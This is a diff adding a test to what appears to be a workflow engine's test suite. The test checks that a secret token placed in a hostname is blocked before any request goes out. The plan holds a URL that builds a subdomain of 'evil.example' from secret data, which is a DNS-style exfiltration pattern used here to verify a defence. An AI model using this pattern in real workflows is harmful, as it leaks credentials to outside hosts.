@@ -68,3 +68,17 @@ it('a short one cannot be told from ordinary text, and is sent', async () => {
     [JSON.stringify({ text: WARNED })],
   ])
 })
+
+it('in the name of a host it is refused before the name is asked for', async () => {
+  const host = await workspace().open()
+  const settings = { baseUrl: 'https://edr.example', auth: 'bearer' }
+  await host.connections.add({ name: 'edr', kind: 'http', settings, secrets: { token: 'TokenABCdef0123' } })
+  const plan = planOf(`firebreak: 2
+name: Test
+nodes:
+  start: { type: trigger/alert, next: tell }
+  tell: { type: action/http-request, timeout: 30s, with: { method: GET, url: "https://\${alert.s}.evil.example/x" } }
+`)
+  const { settled } = await host.runs.start(plan, { s: 'TokenABCdef0123' }, { mode: 'live', by: 'ana' })
+  expect((await settled).state.error).toMatchObject({ node: 'tell', code: 'secret/would-leave' })
+})
